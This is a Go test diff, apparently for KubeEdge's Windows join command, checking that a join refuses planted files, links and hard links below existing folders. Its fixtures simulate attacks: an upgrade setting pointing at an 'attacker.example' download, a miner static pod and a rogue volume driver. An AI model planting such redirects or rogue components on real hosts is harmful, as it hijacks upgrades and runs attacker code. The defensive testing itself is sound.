@@ -779,3 +779,70 @@ func TestJoinImportsImagesBeforeTheServiceStarts(t *testing.T) {
 		t.Errorf("a failed import left the service or the configuration behind")
 	}
 }
+
+// A join over folders someone left (keadm reset, an operator staging
+// files) judges every entry below them before it writes the token or
+// restricts anything: what another account planted, a link and a
+// hard-linked file are each refused with their path; nothing is taken
+// over.
+func TestJoinRefusesPlantedEntriesBelowExistingFolders(t *testing.T) {
+	const user = "O:S-1-5-21-1-2-3-1001D:AI(A;;FA;;;S-1-5-21-1-2-3-1001)"
+	for name, tc := range map[string]struct {
+		plant func(w *hosttest.World)
+		want  []string
+	}{
+		"upgrade settings naming another repository": {func(w *hosttest.World) {
+			w.FS.AddFile(`C:\etc\kubeedge\config\upgrade.yaml`, "repository: https://attacker.example/{version}.zip")
+			w.SDDL[`C:\etc\kubeedge\config\upgrade.yaml`] = user
+		}, []string{`C:\etc\kubeedge\config\upgrade.yaml (in C:\etc\kubeedge, `, "is owned by S-1-5-21-1-2-3-1001", `takeown /F "C:\etc\kubeedge\config\upgrade.yaml" /A`}},
+		"an unfinished upgrade journal": {func(w *hosttest.World) {
+			w.FS.AddFile(`C:\etc\kubeedge\upgrade\journal.json`, "{}")
+			w.SDDL[`C:\etc\kubeedge\upgrade\journal.json`] = user
+		}, []string{`C:\etc\kubeedge\upgrade\journal.json (in C:\etc\kubeedge, `, "is owned by S-1-5-21-1-2-3-1001"}},
+		"a static pod": {func(w *hosttest.World) {
+			w.FS.AddFile(`C:\etc\kubeedge\manifests\miner.yaml`, "kind: Pod")
+			w.SDDL[`C:\etc\kubeedge\manifests\miner.yaml`] = user
+		}, []string{`C:\etc\kubeedge\manifests\miner.yaml (in C:\etc\kubeedge, `}},
+		"a flexvolume driver in the kubelet's root": {func(w *hosttest.World) {
+			w.FS.AddFile(`C:\var\lib\kubelet\volumeplugins\evil~driver\driver.exe`, "MZ")
+			w.SDDL[`C:\var\lib\kubelet\volumeplugins\evil~driver`] = user
+		}, []string{`C:\var\lib\kubelet\volumeplugins\evil~driver (in C:\var\lib\kubelet, `}},
+		"a junction in place of the certificates": {func(w *hosttest.World) {
+			w.FS.AddLink(`C:\etc\kubeedge\certs`)
+		}, []string{`C:\etc\kubeedge\certs (in C:\etc\kubeedge, `, "which the service would follow", `cmd /c rmdir "C:\etc\kubeedge\certs"`}},
+		"a hard-linked image archive": {func(w *hosttest.World) {
+			w.FS.AddFile(`C:\etc\kubeedge\images\pause.tar`, "tar")
+			w.Links[`C:\etc\kubeedge\images\pause.tar`] = 2
+		}, []string{`C:\etc\kubeedge\images\pause.tar (in C:\etc\kubeedge, `, "is a file with 2 names (hard links)"}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			w := hosttest.NewWorld(t)
+			w.Links = map[string]uint32{}
+			w.SDDL = map[string]string{}
+			tc.plant(w)
+			before := w.FS.Paths()
+			err := join.Run(context.Background(), &bytes.Buffer{}, w.Options(), w.System())
+			stepError(t, err, 3)
+			hosttest.MustContain(t, "error", fmt.Sprint(err), tc.want...)
+			if after := w.FS.Paths(); !reflect.DeepEqual(after, before) || len(w.ACL) != 0 {
+				t.Errorf("join changed the host before refusing: %v -> %v, restricted %v", before, after, w.ACL)
+			}
+			noSecretOnDisk(t, w)
+		})
+	}
+}
+
+// What a previous node's pods wrote into their volumes, owned by a
+// Windows container's account, is no reason to refuse a join over its
+// kubelet root: the node neither runs nor trusts it.
+func TestJoinOverAnEarlierKubeletRootLeavesPodVolumesAlone(t *testing.T) {
+	w := hosttest.NewWorld(t)
+	w.SDDL = map[string]string{}
+	vol := `C:\var\lib\kubelet\pods\0d3f\volumes\kubernetes.io~empty-dir\data\out.txt`
+	w.FS.AddFile(vol, "x")
+	w.SDDL[vol] = "O:S-1-5-93-2-1D:(A;;FA;;;S-1-5-93-2-1)"
+	w.EdgecoreIssues(true)
+	if err := join.Run(context.Background(), &bytes.Buffer{}, w.Options(), w.System()); err != nil {
+		t.Fatalf("join over an earlier kubelet root: %v", err)
+	}
+}
